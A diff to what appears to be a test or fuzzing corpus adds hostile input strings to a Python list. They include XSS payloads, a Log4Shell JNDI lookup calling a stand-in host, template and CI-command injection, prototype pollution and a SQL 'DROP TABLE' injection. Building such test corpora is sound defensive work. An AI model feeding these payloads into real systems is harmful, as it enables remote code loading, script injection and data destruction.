@@ -56,6 +56,23 @@ OWN = [
     "\u202eelpoep\u202c",
     "\x1b[31mred",
     "é ü ß 日本語 🎉",
+    # A few of the corpora, so that their kinds are met also where they are not at hand.
+    "<IMG SRC=x onerror=alert(1)>",
+    "'><script>alert(1)</script>",
+    '"><svg onload=alert(1)//',
+    '<a href="javas\tcript:alert(1)">x</a>',
+    "--><!-- ---> <img src=x onerror=alert(1)>",
+    "<style>@import'https://acme.example/a.css'</style>",
+    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
+    "]]><![CDATA[<script>alert(1)</script>",
+    "</textarea></title></pre><h1>x",
+    "${jndi:ldap://acme.example/a}",
+    "{% print 'x' * 64 %}",
+    "%0a%0d::set-output name=a::b",
+    "__proto__",
+    "1;DROP TABLE users",
+    "\ufeffbegins with a mark",
+    "ab\u200bcd\u2066ef\u2069",
 ]
 
 
